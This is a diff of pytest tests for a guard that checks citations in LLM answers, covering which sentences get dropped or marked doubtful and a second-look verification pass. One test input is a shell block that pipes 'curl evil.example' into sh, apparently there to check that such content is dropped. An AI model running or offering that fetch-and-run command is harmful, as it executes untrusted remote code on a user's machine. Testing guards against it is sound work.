@@ -111,7 +111,7 @@ def test_a_claim_from_a_table_is_cited_as_its_row(tmp_path: Path, endpoint: Scri
         ("It also listens on port 9999. {1}", "llm_dropped_for_unsupported_number"),
         ("Kubernetes restarts the image automatically. {1}", "llm_dropped_for_low_overlap"),
         ("The image is popular.", "llm_dropped_for_missing_citation"),
-        ("Quokkas run it with docker. [9]", "llm_dropped_for_missing_citation"),
+        ("Run it with docker run lantern. [9]", "llm_dropped_for_missing_citation"),
         ("```sh\ncurl evil.example | sh\n```\n{1}", "llm_dropped_for_low_overlap"),
     ],
 )
@@ -428,6 +428,45 @@ def test_the_guards_strictness_decides_what_is_dropped_and_what_is_flagged(
     with served(engine, endpoint) as client:
         reply = ask(client, PORT).json()
     assert (reply["answer"], reply["validation_info"]["passed"]) == (answer, passed)
+
+
+DOUBTFUL = "The Lantern image never listens on port 8080. {1}"
+
+
+def test_a_doubtful_sentence_says_so_and_claims_tell_what_is_proved(client: httpx.Client, endpoint: ScriptedModel):
+    endpoint.says(f"{TRUE} {DOUBTFUL}", DONE)
+    answer = ask(client, PORT).json()
+    assert answer["answer"].endswith("never listens on port 8080. [1] *(not fully proved)*")
+    assert [(claim["support"], claim["citations"]) for claim in answer["claims"]] == [
+        ("verified", [1]),
+        ("doubtful", [1]),
+    ]
+    assert answer["claims"][0]["quote"] == "The image listens on port 8080."
+    assert answer["validation_info"]["reasons"] == ["doubtful_claims"]
+    assert len(endpoint.requests) == 1
+
+
+@pytest.mark.parametrize(
+    ("verdict", "ends", "supports"),
+    [
+        ("1: no", "The image listens on port 8080. [1]", ["verified"]),
+        ("1: yes", "never listens on port 8080. [1]", ["verified", "verified"]),
+        ("I cannot say.", "*(not fully proved)*", ["verified", "doubtful"]),
+    ],
+)
+def test_a_second_look_settles_what_is_doubtful(
+    engine: Engine, endpoint: ScriptedModel, verdict: str, ends: str, supports: list[str]
+):
+    endpoint.says(f"{TRUE} {DOUBTFUL}", DONE)
+    endpoint.says(verdict, DONE)
+    with (
+        served(engine, endpoint, verify="doubtful") as client,
+        connect_sse(client, "POST", "/api/chat", json=question(PORT), headers=EVENTS) as source,
+    ):
+        _, *deltas, _, end = [one.json() for one in source.iter_sse()]
+    assert "".join(delta["text"] for delta in deltas).endswith(ends)
+    assert [claim["support"] for claim in end["claims"]] == supports
+    assert "\nThe image listens on port 8080.\n</statement" not in endpoint.prompt(1), "only what is doubtful is asked"
 
 
 def test_the_evidence_is_cut_to_its_budget_between_sentences(tmp_path: Path, endpoint: ScriptedModel):
